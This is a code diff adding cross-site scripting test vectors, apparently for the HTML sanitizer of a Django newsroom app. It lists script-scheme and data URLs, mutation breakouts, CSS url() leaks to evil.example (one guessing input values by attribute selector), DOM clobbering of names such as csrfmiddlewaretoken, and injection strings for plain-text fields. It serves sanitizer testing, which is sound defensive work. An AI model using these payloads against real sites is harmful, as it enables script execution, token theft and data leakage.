@@ -299,4 +299,222 @@ TAKEOVERS = [
     "<th scope='row\" onclick=\"alert(1)' abbr=x>x",
 ]
 
-VECTORS = SCRIPTS + HANDLERS + ADDRESSES + PICTURES + MUTATIONS + STYLES + TAKEOVERS
+# The same schemes where only a browser that follows elements we have no use for would read them.
+_HOLDERS = [
+    "<area href='{}'>",
+    "<base href='{}'>",
+    "<link rel=stylesheet href='{}'>",
+    "<link rel=icon href='{}'>",
+    "<form action='{}'><input type=submit></form>",
+    "<button formaction='{}'>x</button>",
+    "<iframe src='{}'></iframe>",
+    "<embed src='{}'>",
+    "<object data='{}'></object>",
+    "<object><param name=movie value='{}'></object>",
+    "<video src='{}' poster='{}'></video>",
+    "<audio src='{}'></audio>",
+    "<track src='{}'>",
+    "<input type=image src='{}'>",
+    "<table background='{}'></table>",
+    "<blockquote cite='{}'>x</blockquote>",
+    "<body background='{}'>",
+    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>",
+    "<svg><a><animate attributeName=href values='{}' /><text y=9>x</text></a></svg>",
+    "<svg><image href='{}' /></svg>",
+    "<svg><feImage href='{}' /></svg>",
+    "<math><mrow href='{}'>x</mrow></math>",
+    "<math xlink:href='{}'><mi>x</mi></math>",
+    "<meta http-equiv=refresh content='0;url={}'>",
+    "<meta property=og:image content='{}'>",
+]
+_FEW_ADDRESSES = [
+    "javascript:alert(1)",
+    "java&Tab;scr&NewLine;ipt&colon;alert(1)",
+    "&#x6A;&#97;vascript:alert(1)",
+    "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
+    "//evil.example/x",
+]
+HOLDERS = [place.replace("{}", address) for place, address in product(_HOLDERS, _FEW_ADDRESSES)]
+
+DATA = [
+    place.format(address)
+    for place, address in product(
+        ["<img src='{}'>", "<a href='{}'>x</a>", "<object data='{}'></object>"],
+        [
+            "data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>",
+            "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
+            "data:application/xhtml+xml,<script xmlns=%22http://www.w3.org/1999/xhtml%22>alert(1)</script>",
+            "data:text/xml,<?xml-stylesheet href=%22//evil.example/x.xsl%22?><x/>",
+            "data:text/javascript,alert(1)",
+            "data:,<script>alert(1)</script>",
+            "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "\tdata:text/html,<script>alert(1)</script>",
+            "data\n:text/html,<script>alert(1)</script>",
+        ],
+    )
+]
+
+SRCSETS = [
+    place.format(candidates)
+    for place, candidates in product(
+        [
+            "<img srcset='{}'>",
+            f"<img src={OURS} srcset='{{}}' sizes=100vw>",
+            "<picture><source srcset='{}' type=image/webp></picture>",
+            "<link rel=preload as=image imagesrcset='{}'>",
+        ],
+        [
+            "//evil.example/a.png 1x, //evil.example/b.png 2x",
+            "https://evil.example/a.png 100w",
+            "//evil.example/a,b.png",
+            f"{OURS} 1x,\n//evil.example/a.png 3x",
+            "data:image/svg+xml,<svg/onload=alert(1)> 1x",
+        ],
+    )
+]
+
+# Every kind of content that a parser leaves early, or enters another language in.
+_BREAKOUT = "<img src=x onerror=alert(1)>"
+MUTATIONS += [
+    outside.replace("{}", inside)
+    for outside, inside in product(
+        [
+            "<svg>{}</svg>",
+            "<math>{}</math>",
+            "<svg><foreignObject>{}</foreignObject></svg>",
+            "<math><mtext>{}</mtext></math>",
+            "<template>{}</template>",
+            "<noscript>{}</noscript>",
+            "<select>{}</select>",
+            "<table>{}</table>",
+        ],
+        [
+            f"<style><!--</style>{_BREAKOUT}--></style>",
+            f"<title>&lt;/title>{_BREAKOUT}</title>",
+            f"<p title='</style></title></noscript></template>{_BREAKOUT}'>x</p>",
+            f"<![CDATA[</p>]]>{_BREAKOUT}",
+            f"<textarea></textarea >{_BREAKOUT}",
+            "<script>alert(1)</script>",
+        ],
+    )
+] + [
+    f"<math><mtext><table><mglyph><style><math>{_BREAKOUT}</style></math>",
+    f"<svg></p><style><p id='</style>{_BREAKOUT}'>",
+    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{_BREAKOUT}'>",
+    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=alert(1)>'>",
+    f"<math><annotation-xml encoding=text/html><svg><style>{_BREAKOUT}</style></svg>",
+    f"<noscript><!--</noscript>{_BREAKOUT}-->",
+    f"<template><noscript></template>{_BREAKOUT}</noscript>",
+    f"<p>{'<b>' * 520}<svg><style>{_BREAKOUT}",
+    f"<div>{'<div>' * 510}<math><mi><style><!--</style>{_BREAKOUT}",
+    f"<option><style></option></select>{_BREAKOUT}</style>",
+    f"<xmp></xmp\x0c>{_BREAKOUT}",
+    f"<svg><xss><desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;s&gt;</noscript>{_BREAKOUT}",
+    f"<b <script>{_BREAKOUT}</script>0",
+    f"<!doctype html><svg/><![CDATA[x]]>{_BREAKOUT}",
+    f"<?php echo ?>{_BREAKOUT}",
+    f"<frameset><noframes>{_BREAKOUT}</noframes></frameset>",
+]
+
+STYLES += [
+    outside.replace("{}", declaration)
+    for outside, declaration in product(
+        ["<p style='{}'>x</p>", "<td style='{}'>x</td>", "<style>p{{}}</style>"],
+        [
+            "background-image:url(https://evil.example/x)",
+            "background:u\\72l(//evil.example/x)",
+            "list-style:url(//evil.example/x)",
+            "border-image:url(//evil.example/x)",
+            "cursor:url(//evil.example/x),auto",
+            "content:url(//evil.example/x)",
+            "mask:url(//evil.example/x)",
+            "filter:url(//evil.example/x#y)",
+            "background:image-set(&quot;//evil.example/x&quot; 1x)",
+            "--x:url(//evil.example/x);background:var(--x)",
+            "text-align:center;/*;*/background:url(//evil.example/x)",
+        ],
+    )
+] + [
+    "<style>@font-face{font-family:x;src:url(//evil.example/x)}p{font-family:x}</style>",
+    "<style>@namespace url(//evil.example/x);</style>",
+    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+    "<style/onload=alert(1)>",
+    "<style onerror=alert(1)>@import 'x'</style>",
+    "<link rel=stylesheet href='data:text/css,*{background:url(//evil.example/x)}'>",
+]
+
+# What our scripts, Django's and the editor's ask `document`, `window` and forms for.
+_WANTED = [
+    "CKEDITOR",
+    "django",
+    "jQuery",
+    "cookie",
+    "forms",
+    "querySelector",
+    "createElement",
+    "documentElement",
+    "currentScript",
+    "csrfmiddlewaretoken",
+    "id_body",
+    "edition_form",
+    "comments",
+    "session-warning",
+    "submit",
+    "action",
+    "__proto__",
+]
+TAKEOVERS += [
+    place.replace("{}", name)
+    for name, place in product(
+        _WANTED,
+        [
+            "<a id='{}' href='https://evil.example/'>x</a>",
+            f"<img name='{{}}' id='{{}}' src='{OURS}'>",
+            "<form name='{}'><input name='{}'></form>",
+        ],
+    )
+]
+
+# Fields of plain text show these letter by letter. Each fits into the shortest field of the newsroom.
+PLAIN = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    '" onmouseover="alert(1)" x="',
+    "' autofocus onfocus='alert(1)",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><img src=x onerror=alert(1)>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "javascript:alert(1)",
+    "<mark><img src=x onerror=alert(1)></mark>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)} `${alert(1)}`",
+    "<a href=javascript:alert(1)>x</a>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x>",
+    "<meta http-equiv=refresh content=0;//evil.example>",
+    "\u2028<iframe src=//evil.example>",
+    "<<img src=x onerror=alert(1)//",
+    "<form action=//evil.example><button>x",
+    "\\x3cimg src=x onerror=alert(1)\\x3e",
+]
+
+# Some products of two lists are written out above as well.
+VECTORS = list(
+    dict.fromkeys(
+        SCRIPTS
+        + HANDLERS
+        + ADDRESSES
+        + HOLDERS
+        + DATA
+        + PICTURES
+        + SRCSETS
+        + MUTATIONS
+        + STYLES
+        + TAKEOVERS
+    )
+)
